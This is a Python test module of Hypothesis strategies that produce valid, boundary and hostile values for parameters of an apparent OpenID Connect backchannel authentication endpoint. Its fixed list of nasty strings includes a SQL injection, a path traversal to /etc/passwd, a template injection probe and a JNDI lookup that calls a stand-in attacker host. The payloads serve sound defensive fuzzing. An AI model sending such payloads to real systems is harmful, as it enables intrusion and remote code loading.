"""Values: valid, boundary and hostile strings and numbers for single request parameters."""

from __future__ import annotations

import base64
from collections.abc import Sequence
from functools import lru_cache

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

__all__ = [
    "ATTACKER",
    "EMPTY",
    "FORGED_KEY",
    "URLSAFE",
    "binding_messages",
    "hostile_text",
    "numeric_strings",
    "random_auth_req_ids",
    "requested_expiries",
    "scopes",
    "unknown_values",
]

ATTACKER = "https://attacker.invalid"
FORGED_KEY = b"not-the-provider-key-0123456789abcdef"  # >= 32 bytes: no PyJWT warning
URLSAFE = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

_NASTY = (
    " ", "\x00", "\r\n", "\t", "null", "undefined", "[]", "{}", "true", "-1", "1e309", "NaN",
    "%00", "%", "+", "&scope=openid", "a=b&c", "'\"<>", "' OR '1'='1", "../../etc/passwd",
    "{{7*7}}", "${jndi:ldap://attacker.invalid/x}", "\u202eevil", "\ufeffbom", "\u2028", "é",
    "日本語", "😀", "Z\u0351\u0352\u0353",
)
_HUGE_SIZES = (256, 1024, 1025, 4096, 65_536, 70_000)


@lru_cache
def hostile_text(*, min_size: int = 0, max_size: int = 40) -> SearchStrategy[str]:
    """Empty, unicode, control characters, fixed nasty strings and huge values.

    Surrogates are left out: they cannot be UTF-8 encoded, so no client can send them.
    """
    unicode_text = st.text(
        st.characters(codec="utf-8"), min_size=max(min_size, 1), max_size=max_size
    )
    control = st.text(
        st.characters(max_codepoint=0x1F) | st.sampled_from("\x7f\x85\u2028\u202e\ufeff"),
        min_size=max(min_size, 1),
        max_size=8,
    )
    choices: list[SearchStrategy[str]] = [st.just("")] if min_size == 0 else []
    choices += [
        unicode_text,
        control,
        st.sampled_from(_NASTY),
        st.sampled_from(_HUGE_SIZES).map(lambda n: "A" * n),
    ]
    return st.one_of(choices)


@lru_cache
def numeric_strings() -> SearchStrategy[str]:
    """Numbers written as strings, well and badly: signs, exponents, other digits."""
    return st.one_of(
        st.integers(min_value=-5, max_value=4000).map(str),
        st.sampled_from(
            ("0", "-0", "+30", "030", "30.0", "3e1", "0x1E", " 30", "30 ", "٣٠", "1" * 25, "")
        ),
    )


@lru_cache
def scopes(*, valid: bool = True) -> SearchStrategy[str]:
    """Scope values that contain openid (valid) or boundary ones without it."""
    if valid:
        return st.sampled_from(
            (
                "openid",
                "openid profile",
                "profile openid",
                "openid openid",
                "openid email phone address offline_access",
                "openid x_unknown_scope",
            )
        )
    return st.one_of(
        st.sampled_from(("profile", "OPENID", "openid,profile", " openid", "openid\x00", "\topenid")),
        hostile_text(min_size=1),
    )


@lru_cache
def binding_messages(*, valid: bool = True) -> SearchStrategy[str]:
    """Short plain messages (valid), or long / non-ASCII / control ones (the OP's choice)."""
    if valid:
        return st.one_of(
            st.sampled_from(("1234", "W4SCT")),
            st.text(st.sampled_from(URLSAFE), min_size=1, max_size=10),
        )
    return st.one_of(
        st.sampled_from((20, 21, 50, 300)).map(lambda n: "B" * n),
        hostile_text(min_size=1),
    )


@lru_cache
def requested_expiries() -> SearchStrategy[int | str]:
    """Boundary and hostile `requested_expiry` values, as numbers and as strings."""
    return st.one_of(
        st.sampled_from((1, 3600, 3601, 0, -1, 2**31, 2**63)),
        numeric_strings(),
        hostile_text(min_size=1),
    )


@lru_cache
def random_auth_req_ids() -> SearchStrategy[str]:
    """Well-formed (A-Za-z0-9-_, 128 to 256 bits) auth_req_id values no provider issued."""
    return st.binary(min_size=16, max_size=32).map(
        lambda raw: base64.urlsafe_b64encode(raw).rstrip(b"=").decode("ascii")
    )


def unknown_values(known: Sequence[str]) -> SearchStrategy[str]:
    return hostile_text(min_size=1).filter(lambda value: value not in known)


EMPTY = st.sampled_from((None, ""))
